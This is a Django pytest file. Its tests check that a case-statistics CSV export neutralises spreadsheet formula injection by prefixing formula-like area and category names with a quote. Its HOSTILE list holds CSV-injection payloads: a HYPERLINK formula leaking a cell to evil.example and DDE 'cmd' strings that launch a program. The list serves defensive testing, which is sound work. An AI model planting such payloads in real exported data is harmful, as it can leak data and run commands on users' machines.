"""The figures CSV opens in a spreadsheet as data: names that look like formulas stay text, and
the counts stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from cases.models import Case
from cases.tests.factories import AreaFactory, CaseFactory, CategoryFactory

pytestmark = pytest.mark.django_db

URL = reverse("stats:figures-csv")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(client, **params) -> tuple[str, list[list[str]]]:
    text = client.get(URL, params).content.decode()
    return text, list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("name", HOSTILE)
def test_an_area_named_like_a_formula_is_written_as_quoted_text(client, name):
    CaseFactory(area=AreaFactory(name=name, slug="hostile"), status=Case.Status.SOLVED)
    text, rows = _rows(client)
    assert rows[1][1] == "'" + name
    assert rows[1][3:] == ["1", "1"]
    # Nowhere does a line or a cell begin with the raw formula.
    assert f",{name}" not in text and f'"{name}' not in text


def test_a_category_named_like_a_formula_is_escaped_too(client):
    CaseFactory(category=CategoryFactory(name="=1+2", slug="sum"))
    _text, rows = _rows(client)
    assert rows[1][2] == "'=1+2"


def test_ordinary_names_and_the_counts_are_left_alone(client):
    CaseFactory.create_batch(3, area=AreaFactory(name="Hilltop", slug="hilltop"))
    text, rows = _rows(client)
    assert rows[0] == ["month", "area", "category", "cases", "solved"]
    assert rows[1][1:] == ["Hilltop", "Larceny", "3", "0"]
    # Text quoted, counts bare: a spreadsheet reads the counts as numbers.
    assert text.splitlines()[1].endswith(',"Hilltop","Larceny",3,0')
